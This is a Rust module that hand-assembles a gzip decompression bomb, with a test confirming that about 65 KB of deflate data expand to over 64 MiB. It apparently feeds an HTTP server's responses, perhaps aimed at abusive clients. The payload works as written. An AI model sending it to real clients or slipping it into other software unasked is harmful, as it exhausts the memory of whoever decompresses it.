//! A gzip bomb, built without a compressor.

use hyper::body::Bytes;

/// The decompressed length: a space, and copies of 258 spaces up to 64 MiB.
const INFLATED: u32 = 1 + 258 * COPIES;
const COPIES: u32 = 260_112;

/// The CRC-32 of that many spaces.
const CHECKSUM: u32 = 0x141f_6f36;

/// Returns about 65 KB of gzip that decompress to a little over 64 MiB.
///
/// This is the highest ratio of deflate: its longest copy is 258 bytes, and a copy costs at least two bits,
/// one for the length and one for the distance.
pub(super) fn gzip() -> Bytes {
    // Deflate, no name, no time, no flags, an unknown system.
    let mut bits = Bits::new(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);
    bits.number(1, 1); // the last block
    bits.number(2, 2); // with dynamic codes
    bits.number(286 - 257, 5); // literals and lengths
    bits.number(0, 5); // one distance
    bits.number(18 - 4, 4); // the number of code lengths, in the order of RFC 1951, 3.2.7:
    for length in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2] {
        bits.number(length, 3); // "18" (a run of zeros) takes a bit, "2" and "1" two
    }
    let zeros = |bits: &mut Bits, run: u32| {
        bits.code("0");
        bits.number(run - 11, 7);
    };
    zeros(&mut bits, 32);
    bits.code("11"); // the space: two bits
    zeros(&mut bits, 138);
    zeros(&mut bits, 85);
    bits.code("11"); // the end of the block: two bits
    zeros(&mut bits, 28);
    bits.code("10"); // a copy of 258: one bit
    bits.code("10"); // the distance 1: one bit
    bits.code("10");
    for _ in 0..COPIES {
        bits.code("00");
    }
    bits.code("11");

    let mut bytes = bits.bytes;
    bytes.extend(CHECKSUM.to_le_bytes());
    bytes.extend(INFLATED.to_le_bytes());
    bytes.into()
}

/// A bit writer of deflate, which fills bytes from the lowest bit: numbers lowest bit first, codes highest bit first.
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn new(head: &[u8]) -> Self {
        Self {
            bytes: head.to_vec(),
            used: 8,
        }
    }

    fn number(&mut self, number: u32, width: u32) {
        for at in 0..width {
            self.push((number >> at & 1) as u8);
        }
    }

    fn code(&mut self, code: &str) {
        for bit in code.bytes() {
            self.push(bit - b'0');
        }
    }

    fn push(&mut self, bit: u8) {
        if self.used == 8 {
            self.bytes.push(0);
            self.used = 0;
        }
        if let Some(last) = self.bytes.last_mut() {
            *last |= bit << self.used;
        }
        self.used += 1;
    }
}

#[cfg(test)]
mod tests {
    use std::io::{self, Read};

    use flate2::read::GzDecoder;

    use super::*;

    #[test]
    fn some_65_kb_become_64_mib_of_valid_gzip() {
        let bomb = gzip();
        assert!(bomb.len() < 66 * 1024, "{}", bomb.len());
        let mut inflated = GzDecoder::new(&bomb[..]);
        let mut first = [0; 1];
        inflated.read_exact(&mut first).unwrap();
        assert_eq!(first, *b" ");
        // Reading to the end also compares the checksum and the length.
        let rest = io::copy(&mut inflated, &mut io::sink()).unwrap();
        assert!(rest >= 64 << 20, "{rest}");
    }
}
